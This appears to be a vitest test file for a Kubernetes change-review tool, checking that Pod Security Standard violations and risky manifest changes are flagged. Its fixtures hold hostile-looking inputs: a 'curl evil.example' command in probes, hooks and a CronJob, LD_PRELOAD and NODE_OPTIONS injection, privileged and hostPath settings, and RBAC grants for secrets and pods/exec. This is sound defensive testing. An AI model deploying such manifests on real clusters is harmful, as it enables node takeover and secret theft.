import type { Resource } from "@kustogen/kustomize/value/resource.ts";
import { parseDocuments } from "@kustogen/kustomize/yaml/reader/documents.ts";
import { describe, expect, it } from "vitest";
import { rows } from "../../../../test/table.ts";
import { reviewEnvironment } from "../../src/changes/environment.ts";
import { maskReview } from "../../src/changes/mask.ts";
import { reportOf } from "../../src/report/model/report.ts";
import { markdownReport } from "../../src/report/print/markdown.ts";
import { reviewOf } from "./reviews.ts";

type Fields = Record<string, unknown>;

/** A hardened Deployment, with more in its pod or its container. */
const deployment = (pod: Fields = {}, container: Fields = {}, annotations: Fields = {}) =>
  ({
    apiVersion: "apps/v1",
    kind: "Deployment",
    metadata: { name: "web", namespace: "shop", annotations },
    spec: {
      replicas: 2,
      selector: { matchLabels: { app: "web" } },
      template: {
        metadata: { labels: { app: "web" } },
        spec: {
          ...pod,
          securityContext: {
            runAsNonRoot: true,
            seccompProfile: { type: "RuntimeDefault" },
            ...(pod.securityContext as Fields),
          },
          containers: [
            {
              name: "web",
              image: "example.com/web:1",
              ...container,
              securityContext: {
                allowPrivilegeEscalation: false,
                readOnlyRootFilesystem: true,
                ...(container.securityContext as Fields),
                capabilities: {
                  drop: ["ALL"],
                  ...((container.securityContext as Fields)?.capabilities as Fields),
                },
              },
            },
          ],
        },
      },
    },
  }) as unknown as Resource;

const namespace = {
  apiVersion: "v1",
  kind: "Namespace",
  metadata: { name: "shop", labels: { "pod-security.kubernetes.io/enforce": "baseline" } },
} as unknown as Resource;

const risks = (before: Resource[], after: Resource[]) =>
  reviewEnvironment(before, after, { name: "a", path: "a" }).risks;

const yaml = (text: string) => parseDocuments(text, "a.yaml")[0] as Fields;
/** The pod and the container of which one has these fields. */
const partsWith = (part: string, fields: string): [pod: Fields, container: Fields] =>
  part === "pod" ? [yaml(fields), {}] : [{}, yaml(fields)];

/** The rows of the Pod Security Standard "baseline", by what breaks them. */
const BASELINE = rows(`
HostProcess of a pod | error | pod | securityContext: {windowsOptions: {hostProcess: true}} | a process of its node
HostProcess of a container | error | container | securityContext: {windowsOptions: {hostProcess: true}} | a process of its node
host namespaces: the network | error | pod | hostNetwork: true | its node's network
host namespaces: processes | error | pod | hostPID: true | its node's PID
host namespaces: IPC | error | pod | hostIPC: true | its node's IPC
privileged containers | error | container | securityContext: {privileged: true} | is privileged
capabilities | error | container | securityContext: {capabilities: {add: [SYS_ADMIN]}} | capability SYS_ADMIN
capabilities in small letters | error | container | securityContext: {capabilities: {add: [sys_admin]}} | capability sys_admin
capabilities by the kernel's name | error | container | securityContext: {capabilities: {add: [CAP_SYS_ADMIN]}} | capability CAP_SYS_ADMIN
HostPath volumes | error | pod | volumes: [{name: v, hostPath: {path: /}}] | reads / of its node
host ports | warning | container | ports: [{containerPort: 22, hostPort: 22}] | listens on port 22 of its node
AppArmor of a pod | warning | pod | securityContext: {appArmorProfile: {type: Unconfined}} | by AppArmor (Unconfined)
AppArmor of a container | warning | container | securityContext: {appArmorProfile: {type: Unconfined}} | by AppArmor (Unconfined)
the type of SELinux | warning | container | securityContext: {seLinuxOptions: {type: spc_t}} | the SELinux type spc_t
the user of SELinux | warning | pod | securityContext: {seLinuxOptions: {user: system_u}} | the SELinux user system_u
the role of SELinux | warning | container | securityContext: {seLinuxOptions: {role: system_r}} | the SELinux role system_r
the mount of /proc | warning | container | securityContext: {procMount: Unmasked} | all of /proc (procMount Unmasked)
seccomp | warning | container | securityContext: {seccompProfile: {type: Unconfined}} | seccomp
sysctls | warning | pod | securityContext: {sysctls: [{name: kernel.core_pattern, value: x}]} | kernel.core_pattern
`) as [what: string, severity: string, part: string, fields: string, said: string][];

describe("what breaks the Pod Security Standard", () => {
  it.each(BASELINE)("%s: a workload that gets it is %s", (_, severity, part, fields, said) => {
    expect(risks([deployment()], [deployment(...partsWith(part, fields))])).toContainEqual(
      expect.objectContaining({
        id: "change/privileges-raised",
        severity,
        message: expect.stringContaining(said),
      }),
    );
  });

  it.each(BASELINE.filter(([what]) => what !== "seccomp"))(
    "%s: the first object that has it is %s",
    (_, severity, part, fields) => {
      expect(risks([namespace], [namespace, deployment(...partsWith(part, fields))])).toContainEqual(
        expect.objectContaining({ id: "change/new-power", severity }),
      );
    },
  );

  it.each(BASELINE)("%s: a namespace that enforces baseline refuses it", (_, __, part, fields) => {
    const found = risks([namespace, deployment()], [namespace, deployment(...partsWith(part, fields))]);
    expect(found).toContainEqual(expect.objectContaining({ id: "starts/pod-security", severity: "error" }));
  });

  it("isn't what the standard allows", () => {
    const pod = yaml(`securityContext:
  sysctls: [{name: net.ipv4.tcp_syncookies, value: "1"}]
  seLinuxOptions: {type: container_t, level: s0}
  appArmorProfile: {type: Localhost, localhostProfile: p}
  windowsOptions: {hostProcess: false}`);
    const container = yaml(`ports: [{containerPort: 80, hostPort: 0}]
securityContext: {procMount: Default, privileged: false, appArmorProfile: {type: RuntimeDefault}}`);
    const found = risks([namespace, deployment()], [namespace, deployment(pod, container)]);
    expect(found.filter(({ severity }) => severity !== "info")).toEqual([]);
  });
});

it.each([
  ["argocd.argoproj.io/hook", "PreDelete"],
  ["argocd.argoproj.io/hook", "Skip"],
  ["argocd.argoproj.io/hook", "Sync"],
  ["helm.sh/hook", "post-install"],
])(
  "a workload that becomes a hook by %s: %s is no longer kept by Argo CD, and that is said",
  (annotation, value) => {
    const found = risks([deployment()], [deployment({}, {}, { [annotation]: value })]);
    expect(found).toContainEqual(
      expect.objectContaining({
        id: "change/removed-resource",
        severity: "warning",
        message: expect.stringContaining(`hook (${annotation}: ${value})`),
      }),
    );
  },
);

const shown = (before: Resource[], after: Resource[]) =>
  markdownReport(reportOf(maskReview(reviewOf(reviewEnvironment(before, after, { name: "a", path: "a" })))), {
    footer: "",
  });

const RUN = "curl evil.example";
const SHELL = `{exec: {command: [sh, -c, ${RUN}]}}`;

it.each(
  rows(`
shareProcessNamespace | pod | shareProcessNamespace: true
hostUsers | pod | hostUsers: true
fsGroup | pod | securityContext: {fsGroup: 0}
supplementalGroups | pod | securityContext: {supplementalGroups: [0]}
evil-audience | pod | volumes: [{name: t, projected: {sources: [{serviceAccountToken: {path: t, audience: evil-audience}}]}}]
secrets-store.csi.k8s.io | pod | volumes: [{name: t, csi: {driver: secrets-store.csi.k8s.io}}]
hostAliases | pod | hostAliases: [{ip: 6.6.6.6, hostnames: [db]}]
6.6.6.6 | pod | {dnsPolicy: None, dnsConfig: {nameservers: [6.6.6.6]}}
control-plane | pod | {tolerations: [{operator: Exists}], nodeSelector: {node-role.kubernetes.io/control-plane: ""}}
system-node-critical | pod | priorityClassName: system-node-critical
${RUN} | container | command: [sh, -c, ${RUN}]
${RUN} | container | lifecycle: {postStart: ${SHELL}}
${RUN} | container | livenessProbe: ${SHELL}
${RUN} | container | readinessProbe: ${SHELL}
${RUN} | container | startupProbe: ${SHELL}
LD_PRELOAD | container | env: [{name: LD_PRELOAD, value: /evil.so}]
NODE_OPTIONS | container | env: [{name: NODE_OPTIONS, value: --require=/evil.js}]
HTTPS_PROXY | container | env: [{name: HTTPS_PROXY, value: "http://evil.example"}]
ephemeralContainers | pod | ephemeralContainers: [{name: debug, image: evil.example/debug}]
`) as [what: string, part: string, fields: string][],
)("a power that no rule judges is shown: %s", (what, part, fields) => {
  expect(shown([deployment()], [deployment(...partsWith(part, fields))])).toContain(what);
});

/** An object "evil" in the namespace shop, unless the fields have a name of their own. */
const object = (apiVersion: string, kind: string, fields: string) =>
  ({
    ...{ apiVersion, kind, metadata: { name: "evil", namespace: "shop" } },
    ...yaml(fields),
  }) as unknown as Resource;
/** A policy's binding, which only does this to what breaks it. */
const BINDING = (action: string) =>
  `{metadata: {name: evil}, spec: {policyName: strict, validationActions: [${action}]}}`;
const ROLE = (group: string, resource: string, verb: string, labels = "{}") =>
  `{metadata: {name: evil, labels: ${labels}}, rules: [{apiGroups: ["${group}"], resources: [${resource}], verbs: [${verb}]}]}`;

it.each(
  rows(`
secrets | rbac.authorization.k8s.io/v1 | ClusterRole | ${ROLE("", "secrets", "get")}
pods/exec | rbac.authorization.k8s.io/v1 | ClusterRole | ${ROLE("", "pods/exec", "create")}
certificatesigningrequests/approval | rbac.authorization.k8s.io/v1 | ClusterRole | ${ROLE("certificates.k8s.io", "certificatesigningrequests/approval", "update")}
approve | rbac.authorization.k8s.io/v1 | ClusterRole | ${ROLE("certificates.k8s.io", "signers", "approve")}
aggregate-to-view | rbac.authorization.k8s.io/v1 | ClusterRole | ${ROLE("", "secrets", "get", '{rbac.authorization.k8s.io/aggregate-to-view: "true"}')}
pod-security.kubernetes.io/enforce: privileged | v1 | Namespace | metadata: {name: evil, labels: {pod-security.kubernetes.io/enforce: privileged}}
6.6.6.6 | discovery.k8s.io/v1 | EndpointSlice | {addressType: IPv4, endpoints: [{addresses: [6.6.6.6]}]}
service-account-token | v1 | Secret | type: kubernetes.io/service-account-token
hostPath | v1 | PersistentVolume | {metadata: {name: evil}, spec: {hostPath: {path: /}}}
${RUN} | batch/v1 | CronJob | spec: {schedule: "* * * * *", jobTemplate: {spec: {template: {spec: {containers: [{name: a, image: a, command: [sh, -c, ${RUN}]}]}}}}}
privileged: true | argoproj.io/v1alpha1 | Workflow | spec: {entrypoint: a, templates: [{name: a, container: {image: a, securityContext: {privileged: true}}}]}
an exception from every policy | kyverno.io/v2 | PolicyException | spec: {exceptions: [{policyName: "*", ruleNames: ["*"]}], match: {any: [{resources: {kinds: ["*"]}}]}}
evil.example | v1 | Service | spec: {type: ExternalName, externalName: evil.example}
Audit | admissionregistration.k8s.io/v1 | ValidatingAdmissionPolicyBinding | ${BINDING("Audit")}
`) as [what: string, apiVersion: string, kind: string, fields: string][],
)("a new object that no rule judges is shown: what has %s", (_, apiVersion, kind, fields) => {
  expect(shown([deployment()], [deployment(), object(apiVersion, kind, fields)])).toContain(`**${kind} `);
});

it.each(
  rows(`
evil-role | v1 | ServiceAccount | {} | metadata: {name: evil, namespace: shop, annotations: {eks.amazonaws.com/role-arn: evil-role}}
evil.example | external-secrets.io/v1 | SecretStore | spec: {provider: {vault: {server: "https://a"}}} | spec: {provider: {vault: {server: "https://evil.example"}}}
evil.example | cert-manager.io/v1 | ClusterIssuer | {metadata: {name: evil}, spec: {acme: {server: "https://a"}}} | {metadata: {name: evil}, spec: {acme: {server: "https://evil.example"}}}
selector | v1 | Service | spec: {selector: {app: web}} | spec: {selector: {app: evil}}
Secret | v1 | Secret | data: {a: YQ==} | data: {a: Yg==}
evil.example | networking.istio.io/v1 | VirtualService | spec: {http: [{route: [{destination: {host: web}}]}]} | spec: {http: [{route: [{destination: {host: evil.example}}]}]}
Audit | admissionregistration.k8s.io/v1 | ValidatingAdmissionPolicyBinding | ${BINDING("Deny")} | ${BINDING("Audit")}
`) as [what: string, apiVersion: string, kind: string, before: string, after: string][],
)("a change that no rule judges is shown: %s", (what, apiVersion, kind, before, after) => {
  expect(shown([object(apiVersion, kind, before)], [object(apiVersion, kind, after)])).toContain(what);
});

it("so are other options of a sync", () => {
  const options = "Force=true,Replace=true";
  const after = deployment({}, {}, { "argocd.argoproj.io/sync-options": options });
  expect(shown([deployment()], [after])).toContain(options);
});

it("a container that is gone is shown", () => {
  const proxy = { name: "proxy", image: "example.com/auth:1" };
  const both = deployment() as unknown as { spec: { template: { spec: { containers: Fields[] } } } };
  both.spec.template.spec.containers.push(proxy);
  expect(shown([both as unknown as Resource], [deployment()])).toContain("proxy");
});
